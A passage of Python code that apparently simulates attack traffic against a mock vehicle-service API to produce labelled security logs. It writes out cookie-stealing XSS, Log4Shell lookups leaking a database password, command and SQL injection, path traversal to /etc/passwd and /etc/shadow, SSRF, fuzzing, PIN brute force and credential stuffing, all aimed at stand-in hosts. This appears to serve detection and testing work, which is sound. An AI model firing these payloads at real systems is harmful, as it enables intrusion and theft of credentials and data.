        u = cust[149]
        cl = own(u, 'G34', 'axios/1.6.8')
        for _ in range(30):
            o = 0
            while o is not None:
                rs = S.call(cl, 'GET', f'{C}/community/posts/recent?limit=100&offset={o}')
                o = rs.body['next_offset']
                yield r.uniform(1, 3)
            yield 600
    at(9, 1, g34())

    def g35(k):
        u = cust[147 + k]
        cl = own(u, 'G35')
        for _ in range(20):
            S.call(cl, 'POST', W + '/merchant/contact_mechanic', js=dict(mechanic_code='TRAC_JHN2', problem_details='x', vin=app.veh[u['veh'][0]]['vin'], mechanic_api='http://203.0.113.254:9/none', repeat_request_if_failed=True, number_of_repeats=500))
            yield r.uniform(2, 20)
    at(7, 11, g35(0))
    at(7, 11.05, g35(1))

    def g36():
        cl = Client('198.51.100.8', 'curl/8.5.0', None, ep='G36')
        for p in ('ledger/export?day=2026-06-07', 'ledger/export?day=2026-06-08', 'reminders/due?day=2026-06-09', 'ledger/export?day=2026-06-06'):
            S.call(cl, 'GET', '/workshop/internal/' + p)
            yield r.uniform(300, 8000)
    at(8, 9, g36())

    def g37(k):
        cl = Client(f'203.0.113.{201 + k * 6}', (WEB + ['curl/8.5.0'])[k * 2], None, ep='G37')
        for _ in range(4):
            S.call(cl, 'GET', C + '/_debug/sessions')
            yield r.uniform(400, 9000)
    for k in range(3):
        S.spawn(app.shadow + 4 * HOUR + k * 3000, g37(k))

    def g38():
        cl = Client('198.51.100.51', 'okhttp/3.12.1', None, ep='G38')
        for k in r.sample(list(app.reports), 130):
            S.call(cl, 'GET', f'{W}/v1/mechanic/report/{k}')
            yield r.uniform(15, 40)
    at(10, 3, g38())

    def g39():
        cl = Client('203.0.113.31', 'Fuzz Faster U Fool v2.1.0-dev', None, ep='G39')
        w = [f'/{a}{b}' for a in ('', 'api/', 'admin/', 'identity/api/v3/', 'workshop/api/', 'community/api/v1/') for b in WORDS + ['.git/config', '.env', 'backup.sql', 'swagger.json', 'v3/api-docs', 'users', 'debug', 'config', 'login', 'test', 'old', 'graphql', 'metrics', 'console', 'status', 'server-status', 'phpinfo.php', 'wp-login.php', 'actuator', 'dump', 'private', 'internal', 'tokens', 'export', 'upload', 'static', 'logs', 'jenkins', 'health', 'db']]
        for p in w[:330]:
            S.call(cl, 'GET', p)
            yield r.uniform(.4, 1)
    at(4, 2, g39())

    def g40(k):
        cl = Client(f'198.51.100.{31 + k * 40}', WEB[k], None, ep='G40')
        w = [f'/{a}{b}' for a in ('identity/api/v1/', 'identity/api/v2/', 'workshop/api/v2/', 'community/api/v3/', 'api/', 'management/') for b in ('users', 'admin', 'keys', 'tokens', 'config', 'audit', 'otp', 'export', 'vehicles/all', 'swagger.json', 'openapi.json', 'debug', 'backup', 'reports', 'orders', 'payments', 'mechanics/all', 'coupons', 'roles', 'sessions', 'dump', 'webhooks', 'jobs', 'flags')]
        r.shuffle(w)
        for p in w[k * 48:k * 48 + 76]:
            S.call(cl, 'GET', p)
            yield r.uniform(700, 3600)
    for k in range(3):
        S.spawn(S.local(4, 7) + k * 3700, g40(k))

    def g41():
        cl, u = made('G41', '203.0.113.55', 'schemathesis/3.27.1', car=False)
        odd = [None, True, -1, 0, 2**63, '', 'A' * 700, '\u0000', '\U0001f697', [], {}, 'null', '00', 1e300]
        ops = [('POST', I + '/auth/login', ('email', 'password')), ('POST', I + '/auth/signup', ('name', 'email', 'number', 'password')), ('POST', I + '/v2/vehicle/add_vehicle', ('vin', 'pincode')), ('POST', C + '/community/posts', ('title', 'content')), ('POST', W + '/shop/orders', ('product_id', 'quantity')), ('POST', W + '/shop/apply_coupon', ('coupon_code', 'amount')), ('PUT', W + '/shop/orders/0', ('product_id', 'quantity')), ('POST', W + '/merchant/contact_mechanic', ('mechanic_code', 'vin', 'mechanic_api'))]
        for _ in range(220):
            m, p, fs = r.choice(ops)
            if r.random() < .12:
                S.call(cl, r.choice(['PATCH', 'TRACE', 'DELETE']), p)
            else:
                S.call(cl, m, p, js={f: r.choice(odd) for f in fs if r.random() < .85})
            yield r.uniform(.1, .6)
        for x in ('0', '-1', '999999999999', 'null', '%00', 'A' * 200, 'a%20b', '1e5'):
            S.call(cl, 'GET', f'{W}/shop/orders/{x}')
            S.call(cl, 'GET', f'{C}/community/posts/{x}')
            S.call(cl, 'GET', f'{I}/v2/vehicle/{x}/location')
            yield .4
    at(5, 21, g41())

    def g42():
        cl, u = made('G42', '203.0.113.131', 'sqlmap/1.8.4#stable (https://sqlmap.org)', car=False)
        for k in range(70):
            n = r.randint(1000, 9999)
            x = r.choice([f'1210 AND {n}={n}', f'1210) AND {n}={n + 1} AND ({n}={n}', f"1210' AND {n}={n}-- -", f'1210 UNION ALL SELECT NULL,NULL,CONCAT(0x71,{n},0x71)-- -', f"1210';SELECT PG_SLEEP(5)--", f'1210 AND 1=(SELECT {n} FROM PG_SLEEP(5))', f'1210 ORDER BY {k % 12 + 1}-- -', f"1210' AND EXTRACTVALUE({n},CONCAT(0x5c,0x71))-- -"])
            S.call(cl, 'GET', f'{W}/mechanic/mechanic_report?report_id={quote(x)}')
            yield r.uniform(.2, 1.2)
    at(4, 16, g42())

    def g43():
        u = cust[146]
        cl = own(u, 'G43')
        ids = list(app.posts)
        for k in range(12):
            yield r.uniform(60, 500)
            x = ('<script>fetch("//203.0.113.66/"+document.cookie)</script>', '{{7*7}}${7*7}', '<img src=x onerror=alert(1)>', '$(curl 203.0.113.66)', '; cat /etc/passwd', '"><svg/onload=confirm(1)>')[k % 6]
            if k % 3 == 0:
                S.call(cl, 'POST', f'{C}/community/posts/{r.choice(ids)}/comment', js=dict(content=x))
            elif k % 3 == 1:
                S.call(cl, 'GET', W + '/shop/products?' + urlencode(dict(search=x, limit=20)))
            else:
                S.call(cl, 'GET', '/images/' + ('..%2f..%2f..%2fetc%2fpasswd', '....//....//etc/passwd', '%2e%2e/%2e%2e/etc/shadow', '..%252f..%252fboot.ini')[k // 3 % 4])
    at(6, 12, g43())

    def g44(k):
        cl = Client(f'198.51.100.{41 + k * 3}', WEB[0], None, ep='G44')
        for n in range(7):
            x = r.choice(['${jndi:ldap://203.0.113.66:1389/a}', '${${lower:j}ndi:${lower:l}dap://203.0.113.66/x}', '${jndi:dns://203.0.113.66/${env:DB_PASSWORD}}', '${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.66/o}'])
            if n % 3 == 0:
                S.call(cl, 'GET', '/identity/health_check', h={'User-Agent': x})
            elif n % 3 == 1:
                S.call(cl, 'POST', I + '/auth/login', js=dict(email=x, password='x'))
            else:
                S.call(cl, 'GET', W + '/shop/products?' + urlencode(dict(search=x)))
            yield r.uniform(2000, 20000)
    for k in range(3):
        at(6, 8 + k, g44(k))

    def g45():
        m = app.mechs[4]
        cl = m['cl']
        for d in range(7, 14):
            yield max(0, S.local(d, 9) - S.now)
            if time.gmtime(S.now).tm_wday > 4:
                continue
            yield from T['signed'](cl, m, False)
            for k in r.sample([k for k, x in app.reports.items() if x['code'] != m['code']], 45):
                S.call(cl, 'GET', f'{W}/mechanic/mechanic_report?report_id={k}', ep='G45')
                yield r.uniform(100, 800)
    at(7, 8.9, g45())

    def g46():
        cl, u = made('G46', '203.0.113.166', WEB[3], car=False)
        v = app.veh[cust[145]['veh'][0]]
        S.call(cl, 'GET', f'{W}/mechanic/mechanic_report?report_id={cust[145]["reports"][0]}')
        n = 0
        yield 60
        while S.call(cl, 'POST', I + '/v2/vehicle/add_vehicle', js=dict(vin=v['vin'], pincode=f'{n:04}')).st != 200:
            n += 1
            yield r.uniform(2, 6)
        yield 3
        S.call(cl, 'GET', I + '/v2/vehicle/vehicles')
        S.call(cl, 'GET', f'{I}/v2/vehicle/{v["uuid"]}/location')
    at(11, 10, g46())

    def g47():
        cl = Client('203.0.113.12', 'python-requests/2.31.0', None, ep='G47')
        for k in range(230):
            e = r.choice(cust)['email'] if k % 9 == 4 else f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(1, 900)}@{r.choice(["post", "mail"])}.example'
            S.call(cl, 'POST', I + '/auth/login', js=dict(email=e, password=f'{r.choice(WORDS)}{r.randint(1, 9999)}'))
            yield r.uniform(.9, 2.2)
    at(12, 4, g47())

    def g48():
        cl, u = made('G48', '198.19.14.77', 'Garage/3.5.0 (Android 14; Pixel 8) okhttp/4.12.0')
        i = app.no - 30
        for _ in range(150):
            yield r.uniform(360, 1500)
            fresh(cl, u)
            S.call(cl, 'GET', f'{W}/shop/orders/{i}')
            i -= 1
    at(11, 6, g48())

    real = S.call

    def call(cl, m, url, **k):
        if m == 'GET' and re.fullmatch(r'/workshop/api/shop/orders/\d+', url) and S.now > app.grow and not cl.ep and not k.get('ep'):
            k['ep'] = 'G14'
        return real(cl, m, url, **k)
    S.call = call
